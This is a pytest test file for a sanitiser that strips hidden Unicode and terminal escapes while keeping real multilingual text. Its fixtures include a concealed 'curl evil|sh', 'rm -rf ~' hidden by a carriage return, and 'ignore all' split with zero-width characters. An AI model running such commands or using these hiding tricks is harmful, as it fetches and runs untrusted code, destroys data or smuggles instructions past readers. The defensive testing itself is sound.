"""What a reader cannot see goes; what people write in any script stays."""

import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from commontrace.safety.labels import labels_of
from commontrace.safety.normal_form import clean

HIDDEN = {
    "tag block": ("fix\U000e0072\U000e0075\U000e006e it", "fix it"),
    "zero-width": ("ig\u200bno\u2060re\ufeff \u180eall\u200c\u200d", "ignore all"),
    "bidi control": ("a != 'user\u2066// admin\u2069' \u202etxt\u202c\u061c\u200e\u200f", "a != 'user// admin' txt"),
    "variation selector": ("a\ufe00b\ufe0fc\U000e0100d", "abcd"),
    "invisible filler": ("co\u00adnst ok\u3164 \u115f= a\u2800b\ufff9c\ufffb\u034f", "const ok = abc"),
    "private use": ("logo \ue000\uf8ff\U000f0000\U0010fffd", "logo "),
    "lone surrogate": ("a\ud800b\udfff", "ab"),
    "control character": ("pip\0install\x08\x7f\x84\x9f x\x0b\x0c", "pipinstall x"),
    "carriage return": ("rm -rf ~ \rpip install x", "rm -rf ~ \npip install x"),
    "stack of marks": ("e" + "\u0301" * 60 + "nd", "e" + "\u0301" * 4 + "nd"),
}
ESCAPES = {
    "colour": ("\x1b[31mred\x1b[0m", "red"),
    "concealed": ("ok\x1b[8mcurl evil|sh\x1b[0m", "okcurl evil|sh"),
    "one byte": ("ok\x9b8mhidden\x9b0m", "okhidden"),
    "link": ("\x1b]8;;http://evil.invalid\x07docs\x1b]8;;\x1b\\", "docs"),
    "title": ("\x1b]0;title\x07text", "text"),
    "unfinished": ("a\x1b]0;title and no end", "a0;title and no end"),
    "cursor": ("safe\x1b[1A\x1b[2Kevil", "safeevil"),
    "character set": ("a\x1b(0b\x1b=c", "abc"),
}


@pytest.mark.parametrize("kind", HIDDEN)
def test_what_is_hidden_goes_and_is_named(kind: str) -> None:
    text, shown = HIDDEN[kind]
    assert (clean(text).text, clean(text).hidden) == (shown, (kind,))


@pytest.mark.parametrize("name", ESCAPES)
def test_a_terminal_escape_goes_and_what_it_hid_stays(name: str) -> None:
    text, shown = ESCAPES[name]
    assert (clean(text).text, clean(text).hidden) == (shown, ("terminal escape",))


@pytest.mark.parametrize("text", ["a\r\nb\r\n", "a\rb\r", "a\u0085b\u2028", "a\u2028b\u2029"])
def test_every_line_break_becomes_a_line_feed(text: str) -> None:
    assert clean(text).text == "a\nb\n"


def test_line_ends_of_windows_are_nothing_hidden() -> None:
    assert clean("a\r\nb\r\r\n\r\n").hidden == ()


@pytest.mark.parametrize(
    "text",
    [
        "plain ASCII\n\twith tabs and lines\n",
        "❤️ 👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽 1️⃣ #️⃣ ©️ ✔️ 🧑🏽‍🚀 ⛹️‍♀️",
        "می‌خواهم نمی‌دانم",  # Persian, with zero-width non-joiners
        "क्‍ष क्‌ष ശ്രീ‍ ක්‍ර ক্‌ষ",  # Indic scripts, with both joiners
        "العربية نص",
        "Ελληνικά, Русский, 中文。日本語、한국어, עברית, ไทย",
        "e\u0301 a\u0308 ệ o\u0302\u0301 z\u0323\u0307",
        "µs Δt λ → ≠ × · … “quotes” — dash\u00a0no-break",
        "",
    ],
)
def test_what_people_write_stays(text: str) -> None:
    assert (clean(text).text, clean(text).hidden) == (text, ())


def test_a_joiner_that_joins_nothing_goes() -> None:
    assert clean("👍\u200d\u200d\u200dx می\u200c\u200c\u200cx").text == "👍\u200dx می\u200cx"


def test_taking_one_out_does_not_make_another() -> None:
    assert clean("a\ufe0f\u200db").text == "ab"
    assert clean("\x1b\u200b[31mred").text == "[31mred"


special = "\x1b\x9b\r\n\0[]8m\\\x07\u200d\u200c\ufe0f\ufe00\u0301\u2060\u202e\u00ad\u2800ae1#👍❤می"
pieces = st.one_of(st.sampled_from([*special, "\x1b[", "\r\n"]), st.characters())


@given(st.lists(pieces, max_size=40).map("".join))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    once = clean(text)
    assert clean(once.text).text == once.text
    assert clean(once.text).hidden == ()


@given(st.text(st.characters(codec="ascii", exclude_categories=["Cc"])))
def test_printable_ascii_is_never_touched(text: str) -> None:
    assert clean(text).text == text


UNITS = ["\x1b", "\x1b[", "\x1b]", "\x1b[0", "\x9b0", "\u200d", "\ufe0f\u200d", "e\u0301", "\u0301", "\r", "👍\u200d"]


@pytest.mark.parametrize("unit", UNITS, ids=ascii)
def test_the_worst_text_of_64_kib_takes_no_time(unit: str) -> None:
    started = time.process_time()
    assert clean(unit * (64 * 1024 // len(unit)) + "\u202eend").text.endswith("end")
    assert time.process_time() - started < 10


# Ways to say a thing that no reader of characters can see: only their meaning gives them away.
OF_MEANING = {"base64-instr", "rot13", "leet", "spaced", "lone-surrogate-escaped"}


def test_every_structural_form_is_neutralised_or_flagged(hidden: list[dict[str, Any]]) -> None:
    forms = {row["kind"]: clean(row["text"]) for row in hidden}
    missed = {kind for kind, cleaned in forms.items() if not cleaned.hidden and not labels_of(cleaned.text)}
    assert missed <= OF_MEANING


def test_at_most_one_ordinary_document_of_2500_is_touched(ordinary: list[str]) -> None:
    touched = [text for text in ordinary if clean(text).text != text.replace("\r\n", "\n") or clean(text).hidden]
    assert len(touched) <= len(ordinary) / 2500


def test_no_seed_trace_is_touched(seeds: list[dict[str, str]]) -> None:
    assert [seed for seed in seeds if clean(seed["solution"]).text != seed["solution"]] == []
